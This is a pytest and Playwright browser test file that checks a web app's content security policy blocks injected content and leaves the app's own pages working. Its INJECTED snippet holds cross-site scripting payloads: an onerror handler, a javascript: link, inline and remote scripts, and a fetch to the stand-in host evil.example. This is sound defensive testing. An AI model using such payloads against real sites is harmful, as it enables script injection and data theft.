"""The content policy in a real browser: it gets in the way of nothing of ours, and of what an attacker would write."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from benchmarks.served import Served
from tests.ui.browser import Browser

pytestmark = pytest.mark.browser

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
READY = {
    "": "#composer-text",
    "/arena": "#arena textarea",
    "/workbench": ".policy-name",
}
INJECTED = """() => {
    const place = document.createElement("div");
    place.innerHTML = `<img src="x:" onerror="window.owned = 'handler'"><img src="https://evil.example/x.png">
        <a id="bait" href="javascript:window.owned='link'">x</a>`;
    document.body.append(place);
    const script = document.createElement("script");
    script.textContent = "window.owned = 'inline'";
    document.body.append(script);
    const far = document.createElement("script");
    far.src = "https://evil.example/x.js";
    document.body.append(far);
    document.getElementById("bait").click();
    return fetch("https://evil.example/", {mode: "no-cors"}).then(() => "sent", () => "kept");
}"""


def violations(page: Page) -> list[str]:
    return list(page.evaluate("window.violations"))


@pytest.mark.parametrize("language", ["en", "vi"])
@pytest.mark.parametrize("root", READY)
def test_every_page_works_under_the_policy(browser: Browser, slow_app: Served, root: str, language: str) -> None:
    with browser.tab(slow_app) as tab:
        tab.page.add_init_script(WATCH)
        tab.page.goto(f"{tab.url}{root}/{language}/", wait_until="domcontentloaded")
        tab.page.wait_for_selector(READY[root])
        if root == "":
            tab.ready().ask("Một câu hỏi ngắn, *please*: `code`, $x^2$ and ![i](https://evil.example/i.png)")
        tab.page.wait_for_load_state("load")
        assert violations(tab.page) == []


@pytest.mark.parametrize("root", READY)
def test_what_an_attacker_would_write_does_not_run(browser: Browser, slow_app: Served, root: str) -> None:
    with browser.tab(slow_app) as tab:
        tab.page.add_init_script(WATCH)
        tab.page.goto(f"{tab.url}{root}/en/", wait_until="domcontentloaded")
        tab.page.wait_for_selector(READY[root])
        assert tab.page.evaluate(INJECTED) == "kept"
        tab.page.wait_for_function("window.violations.length >= 5")
        assert tab.page.evaluate("window.owned ?? 'nobody'") == "nobody"
        kinds = {line.split()[0] for line in violations(tab.page)}
        assert {"script-src-attr", "script-src-elem", "img-src", "connect-src"} <= kinds
        tab.troubles.clear()  # the browser tells each of them to the console, as it should
